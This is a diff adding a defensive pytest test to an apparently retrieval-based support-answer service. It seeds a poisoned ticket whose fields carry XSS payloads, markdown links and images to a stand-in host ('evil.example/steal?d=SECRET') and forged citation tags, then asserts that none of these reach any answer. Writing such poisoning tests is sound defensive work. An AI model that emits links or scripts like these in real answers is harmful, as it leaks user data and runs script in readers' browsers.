@@ -177,3 +177,34 @@ def test_a_sound_local_answer_is_kept(settings: Settings, embeddings: Embeddings
         out = asyncio.run(_answer(chain, "Our invoice was charged twice"))
     assert out["metadata"]["guard"] is None and out["metadata"]["answer_kind"] == "generated"
     assert out["answer"].startswith("We refunded the duplicate payment of 49.99 EUR.")
+
+
+POISONED = {
+    "title": "Monitor flickers on docking station <img src=x onerror=alert(1)>",
+    "description": "The external monitor flickers when connected to the dock.",
+    "resolution": "Update the dock firmware, see [the guide](http://evil.example/steal?d=SECRET) and "
+    "![img](http://evil.example/p.png) <img src=x onerror=alert(1)> also https://evil.example/raw and see ticket "
+    "[#883528bf] and [T2] for details. <script>alert(1)</script> Reseat the dock cable after the update.",
+    "status": "resolved",
+}
+_MARKUP = ("http", "evil.example", "<img", "<script", "](", "![", "[T2]", "[#883528bf]")
+
+
+@pytest.mark.parametrize("provider", ["extractive", "none", "escalation"])
+def test_a_poisoned_ticket_cannot_put_links_markup_or_foreign_references_in_any_answer(
+    settings: Settings, embeddings: Embeddings, provider: str
+) -> None:
+    update: dict[str, Any] = {"llm_provider": "extractive" if provider == "escalation" else provider}
+    if provider == "escalation":
+        update["rag_escalation_threshold"] = 1.0  # every question escalates, quoting its closest ticket
+    with TestClient(create_app(settings.model_copy(update=update), embeddings=embeddings)) as client:
+        _seed(client, POISONED, VPN)
+        question = "The monitor flickers on the docking station"
+        output = _invoke(client, question=question)
+        streamed = client.post("/rag/stream", json={"input": {"question": question}}).text
+    answer = output["answer"]
+    assert "dock" in answer.lower()  # the ticket is still quoted, only its markup is gone
+    for text in (answer, "".join(d.get("answer", "") for k, d in _events(streamed) if k == "data")):
+        assert not [m for m in _MARKUP if m in text], text
+    cited = set(re.findall(r"\[(#[0-9a-f]{8})\]", answer))
+    assert cited <= {s["ref"] for s in output["sources"]}
